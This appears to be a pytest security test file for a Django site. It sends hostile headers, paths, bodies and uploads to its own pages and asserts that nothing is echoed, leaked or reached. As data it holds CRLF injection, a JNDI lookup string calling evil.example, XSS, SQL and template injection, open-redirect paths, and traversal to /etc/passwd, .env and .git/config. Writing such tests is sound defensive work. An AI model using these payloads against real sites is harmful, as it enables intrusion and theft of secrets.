"""Hostile headers, paths, bodies and texts."""

import logging
from urllib.parse import unquote_to_bytes

import pytest
from django.conf import settings as site
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from tests.factories import PartnerFactory

pytestmark = pytest.mark.django_db
INJECTION = "x\r\nSet-Cookie: stolen=1"
HEADERS = {
    "Accept": ["*/*;q=" + "9" * 5000, "text/html;q=x,,;"],
    "Accept-Encoding": ["gzip;q=nan, *;q=-1", "," * 5000],
    "Accept-Language": ["en-" * 3000, "xx;q=1e999, ../../etc/passwd", "\xff\xfe"],
    "Cookie": [
        "csrftoken=" + "a" * 9000,
        "sessionid=../../etc/passwd; =;;",
        "messages=[[]]",
    ],
    "Forwarded": ["for=evil.example;host=evil.example"],
    "HX-Request": ["true", INJECTION],
    "HX-Target": ["catalogue", "<script>", INJECTION],
    "HX-Current-URL": ["javascript:alert(1)"],
    "If-Modified-Since": ["Thu, 99 Foo 99999 99:99:99 GMT"],
    "If-None-Match": ['"' * 5000, "W/" * 3000, "*"],
    "Origin": ["null", "https://evil.example"],
    "Range": ["bytes=0-18446744073709551615", "bytes=" + "0-1," * 2000],
    "Referer": ["https://evil.example/<script>"],
    "User-Agent": ["{{7*7}}${jndi:ldap://evil.example}", "\xff" * 300],
    "X-Forwarded-For": ["127.0.0.1", "a" * 5000],
    "X-Forwarded-Host": ["evil.example"],
    "X-Forwarded-Proto": ["https"],
    "X-HTTP-Method-Override": ["DELETE"],
    "X-Original-URL": ["/admin/"],
    "X-Rewrite-URL": ["/admin/"],
}
PATHS = [
    *("//evil.example/", "///evil.example/institutes", "/\\evil.example/", "/%5cevil"),
    *("/static/../../manage.py", "/static/%2e%2e/%2e%2e/manage.py", "/static/..%2fx"),
    *("/static//etc/passwd", "/static/%00", "/data/../../etc/passwd.csv"),
    *(
        "/data/..%2f..%2fsettings.csv",
        "/data/auth_user.csv",
        "/data/axes_accesslog.csv",
    ),
    *("/institutes/%0d%0aSet-Cookie:%20x=1", "/institutes/iacmi%00/", "/%ff%fe/"),
    *("/institutes/../admin/", "/institutes/{{7*7}}/", "/partners/' OR 1=1--/"),
    *("/media/x", "/.env", "/.git/config", "/.data/secret-key", "/manage.py"),
    *("/" + "a/" * 2000, "/" + "a" * 20_000, "/places/" + "%F0%9F%92%A9" * 50 + "/"),
]


@pytest.mark.parametrize("name", HEADERS)
def test_no_request_header_breaks_a_page_or_is_echoed(client, name):
    for value in HEADERS[name]:
        for address in ("/", "/partners/?find_state=o", "/partners.csv", "/admin/"):
            response = client.get(address, headers={name: value})
            body = b"".join(response) if response.streaming else response.content

            assert response.status_code in (200, 206, 302, 304), (address, value)
            assert b"evil.example" not in body
            assert b"<script>" not in body
            assert "evil" not in response.get("Location", "")
            assert "stolen" not in str(response.cookies)


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
def test_no_path_reaches_files_or_other_sites(client, path):
    path_info = unquote_to_bytes(path).decode("latin-1")  # As in the WSGI environ.
    response = client.get("/", PATH_INFO=path_info)
    body = b"".join(response) if response.streaming else response.content

    assert response.status_code in (301, 302, 400, 404)
    location = response.get("Location", "/")
    assert location.startswith("/")
    assert not location.startswith(("//", "/\\"))
    assert all(value.isprintable() for value in response.headers.values())
    assert site.SECRET_KEY.encode() not in body


@pytest.fixture
def log_lines(monkeypatch):
    """What the handlers of the settings write; those of pytest are of other classes."""

    def emit(handler, record):
        if type(handler) is logging.StreamHandler:
            lines.append(record.getMessage())

    lines = []
    monkeypatch.setattr(logging.StreamHandler, "emit", emit)
    return lines


@pytest.mark.parametrize("path", ["/admin/", "/admin/axes/accesslog/"])
def test_a_page_whose_redirect_would_be_too_long_is_refused(client, log_lines, path):
    assert client.get(f"{path}{'!' * 15_000}/").status_code == 400
    assert not [line for line in log_lines if "redirect" in line]


@pytest.mark.parametrize("words", ["{{7*7}}", "{% debug %}", "{{ request.user }}"])
def test_template_syntax_in_data_is_not_rendered(client, words):
    PartnerFactory(name=f"Works {words}", key="works")
    for address in (
        "/partners/works/",
        "/partners/",
        f"/search/?q={words.replace('%', '%25')}",
    ):
        page = client.get(address).content.decode()

        assert words in page
        assert "49" not in page.partition("<title>")[2].partition("</title>")[0]


@pytest.mark.parametrize("client", [Client(), Client(enforce_csrf_checks=True)])
@pytest.mark.parametrize("address", ["/", "/institutes/", "/search/", "/admin/login/"])
def test_an_oversized_body_is_refused_or_not_read(client, address):
    large = "application/x-www-form-urlencoded"
    body = b"username=" + b"x" * (site.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)

    read = client.generic("GET", address, body, content_type=large)
    posted = client.post(address, body, content_type=large)

    assert read.status_code == 200
    assert posted.status_code in (400, 403, 405)


def test_a_form_with_too_many_fields_is_refused(client):
    body = "&".join(["a="] * (site.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1))
    content_type = "application/x-www-form-urlencoded"

    assert (
        client.post("/admin/login/", body, content_type=content_type).status_code == 400
    )


def test_an_anonymous_upload_is_not_stored(client):
    file = SimpleUploadedFile("page.html", b"<script>alert(1)</script>")
    posted = client.post("/admin/login/", {"username": "x", "file": file})

    assert not posted.wsgi_request.FILES
    assert site.MEDIA_ROOT == ""
    assert client.get("/media/page.html").status_code == 404
